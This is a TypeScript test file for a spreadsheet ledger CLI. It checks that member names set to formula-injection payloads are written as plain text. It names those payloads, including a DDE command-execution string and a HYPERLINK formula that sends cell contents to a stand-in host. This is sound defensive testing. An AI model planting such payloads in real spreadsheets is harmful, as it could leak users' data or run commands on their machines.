import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { main } from '../../src/cli/main';
import { calendarDate } from '../../src/core/calendar/calendarDate';

/**
 * User text in files the CLI writes is text in Excel, WPS and LibreOffice: a member called
 * `=cmd|' /C calc'!A0` is a shared string (t="s"), never a <f> formula, and links are built only
 * from the escaped sheet name. Checked on the .xlsx bytes as written, not on ExcelJS's objects.
 */
const PAYLOADS = ['=HYPERLINK("http://x.example/?q="&G4,"y")', "=cmd|' /C calc'!A0", '+1', '-2', '@SUM(1)'];
const QUOTED_SHEET = "党费'收缴台账";

const quiet = { out: () => undefined, err: () => undefined, today: () => calendarDate(2026, 3, 1) };

async function sheetXml(zip: JSZip, book: ExcelJS.Workbook, name: string): Promise<string> {
  const index = book.worksheets.findIndex((w) => w.name === name);
  expect(index).toBeGreaterThanOrEqual(0);
  return zip.file(`xl/worksheets/sheet${index + 1}.xml`)!.async('string');
}

const formulasIn = (xml: string): string[] => [...xml.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)].map((m) => m[1].replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>'));

describe('text stays text in the files the CLI writes', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ledger-text-'));
  const input = join(dir, 'payloads.xlsx');

  beforeAll(async () => {
    const sample = join(dir, 'sample.xlsx');
    expect(await main(['sample', '--members', '10', '--year', '2025', '--problems', '--branch', '=1+1', '--out', sample], quiet)).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(sample);
    // Every member's name, wherever it is written, becomes one of the payloads.
    const roster = wb.getWorksheet('党员名册')!;
    const rename = new Map<string, string>();
    roster.eachRow((row, r) => {
      const v = row.getCell(2).value;
      if (r >= 4 && typeof v === 'string' && !rename.has(v)) rename.set(v, PAYLOADS[rename.size % PAYLOADS.length] + (rename.size >= PAYLOADS.length ? ` ${rename.size}` : ''));
    });
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => {
      if (typeof cell.value === 'string' && rename.has(cell.value)) cell.value = rename.get(cell.value)!;
    }));
    wb.getWorksheet('党费收缴台账')!.name = QUOTED_SHEET;
    await wb.xlsx.writeFile(input);
  });

  it('scan --out: the 检查结果 rows hold the payloads as shared strings, and every formula is a link built from the escaped sheet name', async () => {
    const out = join(dir, 'checked.xlsx');
    const report = join(dir, 'report.xlsx');
    expect(await main(['scan', input, '--as-of', '2025-12-31', '--out', out, '--report', report], quiet)).not.toBe(2);
    const bytes = readFileSync(out);
    const zip = await JSZip.loadAsync(bytes);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const findings = book.getWorksheet('检查结果')!;
    const members = new Set<string>();
    findings.eachRow((row) => row.eachCell((cell) => {
      if (typeof cell.value === 'string' && PAYLOADS.some((p) => (cell.value as string).startsWith(p))) members.add(cell.value);
    }));
    // The first two payloads at least are members with findings (planted problems).
    expect([...members].some((m) => m.startsWith('=HYPERLINK'))).toBe(true);
    expect([...members].some((m) => m.startsWith('=cmd'))).toBe(true);

    const xml = await sheetXml(zip, book, '检查结果');
    for (const f of formulasIn(xml)) {
      // A link to a cell (shown as its address) or to the rule's row of 规则说明 (shown as the rule id): nothing of the user's.
      expect(f).toMatch(/^HYPERLINK\("#'(?:[^']|'')+'![A-Z]+\d+","(?:[A-Z]+\d+|[a-z][a-z0-9.-]*)"\)$/);
      expect(PAYLOADS.slice(0, 2).some((p) => f.includes(p.slice(1)))).toBe(false);
    }
    // A finding on the sheet whose name has a quote links to it with the quote doubled.
    expect(formulasIn(xml).some((f) => f.startsWith(`HYPERLINK("#'党费''收缴台账'!`))).toBe(true);
    // Every cell holding a payload is a shared string (t="s"): text in Excel, WPS and LibreOffice.
    const shared = await zip.file('xl/sharedStrings.xml')!.async('string');
    const strings = [...shared.matchAll(/<si>(.*?)<\/si>/gs)].map((m) => m[1].replace(/<[^>]+>/g, '').replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&apos;/g, "'"));
    for (const p of PAYLOADS.slice(0, 2)) expect(strings.some((s) => s.startsWith(p))).toBe(true);
    for (const cell of xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>(.*?)<\/c>/gs)) {
      const value = /<v>([^<]*)<\/v>/.exec(cell[3])?.[1];
      if (!/t="s"/.test(cell[2]) || value === undefined) continue;
      expect(strings[Number(value)]).toBeDefined();
    }
    for (const c of ['G', 'E']) {
      findings.getColumn(c).eachCell((cell) => {
        expect(typeof cell.value === 'object' && cell.value !== null && 'formula' in cell.value).toBe(false);
      });
    }

    // The report across files: the same names as text, no formula at all.
    const reportZip = await JSZip.loadAsync(readFileSync(report));
    for (const name of Object.keys(reportZip.files).filter((f) => f.startsWith('xl/worksheets/sheet'))) {
      expect(formulasIn(await reportZip.file(name)!.async('string'))).toEqual([]);
    }
  });

  it('summary --only: the 党费公布表 names and the branch name "=1+1" are text', async () => {
    const out = join(dir, 'summary.xlsx');
    expect(await main(['summary', input, '--only', '--out', out], quiet)).toBe(0);
    const bytes = readFileSync(out);
    const zip = await JSZip.loadAsync(bytes);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    for (const ws of book.worksheets) {
      const formulas = formulasIn(await sheetXml(zip, book, ws.name));
      for (const f of formulas) expect(PAYLOADS.slice(0, 2).some((p) => f.includes(p.slice(1))) || f.includes('1+1')).toBe(false);
    }
    const texts: string[] = [];
    book.getWorksheet('党费公布表')!.eachRow((row) => row.eachCell((cell) => (typeof cell.value === 'string' ? texts.push(cell.value) : 0)));
    expect(texts.some((t) => t.startsWith('=cmd'))).toBe(true);
  });
});
